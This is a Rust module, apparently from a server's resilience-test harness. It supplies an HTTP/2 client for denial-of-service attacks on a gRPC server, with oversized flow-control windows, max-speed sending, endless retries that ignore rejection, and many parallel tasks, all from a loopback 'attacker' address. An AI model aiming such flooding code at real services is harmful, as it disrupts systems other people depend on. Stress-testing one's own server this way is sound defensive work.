//! The HTTP/2 client of the attacks: it does what no gRPC library would.

use std::convert::Infallible;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use bytes::{BufMut, Bytes, BytesMut};
use h2::client::{ResponseFuture, SendRequest};
use h2::{RecvStream, SendStream};
use http::Request;
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

/// Where attacks come from.
pub(crate) const ATTACKER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 66);
/// Before a step that failed is tried again.
const AGAIN_AFTER: Duration = Duration::from_millis(20);

pub(crate) type Failure = Box<dyn std::error::Error + Send + Sync>;

/// A TCP connection from the attacker's address.
pub(crate) async fn dial(to: SocketAddr) -> Result<TcpStream, Failure> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((ATTACKER, 0)))?;
    Ok(socket.connect(to).await?)
}

/// An HTTP/2 connection from the attacker's address. It lives as long as the value and its streams.
pub(crate) async fn connect(to: SocketAddr) -> Result<SendRequest<Bytes>, Failure> {
    let mut builder = h2::client::Builder::new();
    builder
        .initial_window_size(1 << 24)
        .initial_connection_window_size(1 << 30)
        .max_concurrent_reset_streams(100_000);
    let (requests, connection) = builder.handshake(dial(to).await?).await?;
    tokio::spawn(connection);
    Ok(requests)
}

/// Open a stream.
pub(crate) async fn open(
    requests: &SendRequest<Bytes>,
    path: &str,
) -> Result<(ResponseFuture, SendStream<Bytes>), Failure> {
    let request = Request::post(format!("http://server{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())?;
    Ok(requests.clone().ready().await?.send_request(request, false)?)
}

/// Send bytes as fast as the server takes them.
pub(crate) async fn send(stream: &mut SendStream<Bytes>, mut bytes: Bytes) -> Result<(), Failure> {
    while !bytes.is_empty() {
        stream.reserve_capacity(bytes.len());
        let capacity = std::future::poll_fn(|context| stream.poll_capacity(context)).await;
        let capacity = capacity.ok_or("the stream has ended")??;
        stream.send_data(bytes.split_to(capacity.min(bytes.len())), false)?;
    }
    Ok(())
}

/// The head of a gRPC message of `len` bytes.
pub(crate) fn head(len: usize) -> Bytes {
    let mut head = BytesMut::new();
    head.put_u8(0);
    head.put_u32(u32::try_from(len).unwrap());
    head.freeze()
}

/// A gRPC message with its head.
pub(crate) fn message(bytes: &[u8]) -> Bytes {
    [&head(bytes.len()), bytes].concat().into()
}

/// Read and throw away whatever comes, until the stream ends.
pub(crate) async fn drain(response: ResponseFuture) -> Result<(), Failure> {
    let mut body: RecvStream = response.await?.into_body();
    while let Some(data) = body.data().await {
        let len = data?.len();
        body.flow_control().release_capacity(len)?;
    }
    Ok(())
}

/// Do something again and again, whatever comes of it.
pub(crate) async fn again<Step>(mut step: impl FnMut() -> Step) -> Infallible
where
    Step: Future<Output = Result<(), Failure>>,
{
    loop {
        // An attack goes on when the server turns it away.
        drop(step().await);
        sleep(AGAIN_AFTER).await;
    }
}

/// Do something again and again in `count` tasks at a time.
pub(crate) async fn crowd<Step>(count: usize, step: impl Fn() -> Step + Clone + Send + 'static)
where
    Step: Future<Output = Result<(), Failure>> + Send + 'static,
{
    for _ in 0..count {
        tokio::spawn(again(step.clone()));
    }
    std::future::pending().await
}
